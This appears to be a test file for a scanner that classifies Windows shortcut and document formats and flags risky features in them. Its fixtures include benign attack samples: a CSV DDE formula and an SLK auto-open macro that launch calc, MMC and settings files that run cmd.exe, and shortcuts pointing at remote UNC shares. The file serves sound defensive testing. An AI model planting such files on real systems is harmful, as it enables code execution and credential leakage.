/** Small files that Windows opens by their kind: what each is known by, what is told of it, what comes out of it. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { assert as check, constantFrom, property, string } from 'fast-check'
import { crc32 } from 'node:zlib'
import { unpack, type Unpacked } from '../archive/unpack.ts'
import { long, short } from '../excel/biff-building.ts'
import { identify } from '../identify/identify.ts'

const open = (type: string, text: string | Buffer): Unpacked =>
  unpack(Buffer.from(text), type, { entries: 20, bytes: 1e6, ratio: 100, passwords: [] })
const codes = (found: Unpacked): string[] => found.findings.map(({ code }) => code)
const links = (found: Unpacked): string[] => found.links.map(({ url }) => url)
const files = (found: Unpacked): string[][] => found.entries.map(({ name, bytes }) => [name, bytes.toString()])

interface Case {
  readonly name: string
  readonly type: string
  readonly text: string | Buffer
  readonly told: readonly string[]
  readonly to?: readonly string[]
  readonly holds?: readonly (readonly string[])[]
}

const console = `<MMC_ConsoleFile><StringTables><String ID="1">res://apds.dll/redirect.html?target=javascript:eval(x)</String><String ID="2">${'var a=1;'.repeat(8).replaceAll('=', '%3d').replaceAll(';', '%3B')}</String></StringTables><Tasks><Task Type="CommandLine" Command="cmd.exe"><CommandLine Params="/c calc &amp; exit"/></Task></Tasks></MMC_ConsoleFile>`

const cases: readonly Case[] = [
  { name: 'a.url', type: 'shortcut.url', text: '[InternetShortcut]\r\nURL=https://a.example/\r\n', told: [] },
  {
    name: 'a.url',
    type: 'shortcut.url',
    text: '[InternetShortcut]\nURL=file://192.0.2.1/s/run.exe\nIconFile=\\\\192.0.2.1\\i.ico\nWorkingDirectory=\\\\192.0.2.1\\webdav',
    told: ['shortcut.remote-program', 'shortcut.remote-icon', 'shortcut.remote-folder'],
    to: ['\\\\192.0.2.1\\i.ico', '\\\\192.0.2.1\\webdav'],
  },
  {
    name: 'a.scf',
    type: 'shortcut.scf',
    text: '[Shell]\nCommand=2\nIconFile=\\\\a.example\\x.ico',
    told: ['shortcut.remote-icon'],
    to: ['\\\\a.example\\x.ico'],
  },
  {
    name: 'a.library-ms',
    type: 'shortcut.library-ms',
    text: '<libraryDescription><simpleLocation><url>\\\\a.example\\share</url></simpleLocation></libraryDescription>',
    told: ['shortcut.remote-folder'],
    to: ['\\\\a.example\\share'],
  },
  {
    name: 'a.rdp',
    type: 'shortcut.rdp',
    text: Buffer.from(
      'full address:s:a.example:3389\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||check\r\n',
      'utf16le',
    ),
    told: ['shortcut.remote-desktop', 'shortcut.remote-desktop-drives', 'shortcut.remote-desktop-program'],
    to: ['rdp://a.example:3389'],
  },
  {
    name: 'a.msc',
    type: 'shortcut.console',
    text: console,
    told: ['shortcut.console-command', 'shortcut.console-script'],
    holds: [
      ['console-task.cmd', 'cmd.exe /c calc & exit'],
      ['console-script.js', 'var a=1;'.repeat(8)],
    ],
  },
  {
    name: 'a.settingcontent-ms',
    type: 'shortcut.settings',
    text: '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
    told: ['shortcut.settings-command'],
    holds: [['deep-link.cmd', '%windir%\\system32\\cmd.exe /c calc']],
  },
  {
    name: 'a.jnlp',
    type: 'shortcut.jnlp',
    text: '<jnlp codebase="https://a.example/app" href="x.jnlp"><jar href="evil.jar"/></jnlp>',
    told: ['shortcut.deployment'],
    to: ['https://a.example/app', 'https://a.example/app/x.jnlp', 'https://a.example/app/evil.jar'],
  },
  {
    name: 'a.appref-ms',
    type: 'shortcut.clickonce',
    text: Buffer.from('\uFEFFhttps://a.example/x.application#x.application, Culture=neutral', 'utf16le'),
    told: ['shortcut.deployment'],
    to: ['https://a.example/x.application'],
  },
  { name: 'a.csv', type: 'document.csv', text: `a,b\n"=cmd|'/c calc'!A0",1\n`, told: ['dde'] },
  { name: 'a.csv', type: 'document.csv', text: 'a,-5|3,=A1+B2\n', told: [] },
  {
    name: 'a.slk',
    type: 'document.slk',
    text: 'ID;P\nO;E\nNN;NAuto_open;ER1C1;KOut Flank;F\nC;X1;Y1;EEXEC("calc")\n',
    told: ['macro-sheet', 'macro-sheet-autoexec'],
  },
  {
    name: 'a.iqy',
    type: 'document.iqy',
    text: 'WEB\n1\nhttps://a.example/q\n',
    told: ['remote-query'],
    to: ['https://a.example/q'],
  },
  {
    name: 'a.ics',
    type: 'document.calendar',
    text: `BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://a.exa\r\n mple/meet\\nnow\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME=run.js:${Buffer.from('inert').toString('base64')}\r\nEND:VCALENDAR\r\n`,
    told: [],
    to: ['https://a.example/meet'],
    holds: [['run.js', 'inert']],
  },
]

for (const { name, type, text, told, to = [], holds = [] } of cases)
  test(`${type}: ${told.join(', ') || 'nothing'}`, () => {
    assert.equal(identify(Buffer.from(text), { name }), type)
    const found = open(type, text)
    assert.deepEqual(codes(found), told)
    assert.deepEqual(links(found), to)
    assert.deepEqual(files(found), holds)
  })

/** A ZIP of one stored entry. */
function zip(name: string, content: string): Buffer {
  const [path, data] = [Buffer.from(name), Buffer.from(content)]
  const common = Buffer.concat([
    short(20, 0, 0, 0, 0),
    long(crc32(data), data.length, data.length),
    short(path.length, 0),
  ])
  const local = Buffer.concat([long(0x04034b50), common, path, data])
  const entry = Buffer.concat([long(0x02014b50), short(20), common, short(0, 0, 0), long(0, 0), path])
  return Buffer.concat([local, entry, long(0x06054b50), short(0, 0, 1, 1), long(entry.length, local.length), short(0)])
}

test('programs for Java and Android: what the manifest says', () => {
  const jar = open('executable.jar', zip('META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\r\nMain-Class: a.b.Run\r\n'))
  assert.deepEqual(
    jar.findings.map(({ code, text }) => `${code} ${text}`),
    ['package.manifest The manifest starts a class: Main-Class a.b.Run'],
  )
  const rights = 'android.permission.READ_SMS\0android.permission.INTERNET'
  for (const manifest of [rights, Buffer.from(rights, 'utf16le').toString('latin1')]) {
    const apk = open('executable.apk', zip('AndroidManifest.xml', manifest))
    assert.deepEqual(
      apk.findings.map(({ text }) => text),
      ['The manifest asks for rights: 2', 'The application asks for rights: READ_SMS'],
    )
  }
})

test('any text ends', () => {
  check(
    property(
      constantFrom(...cases),
      string({ maxLength: 100 }),
      string({ maxLength: 100 }),
      ({ type, text }, one, other) => {
        assert.ok(open(type, `${one}${text.toString()}${other}`).entries.length <= 20)
      },
    ),
    { seed: 12, numRuns: 300 },
  )
})
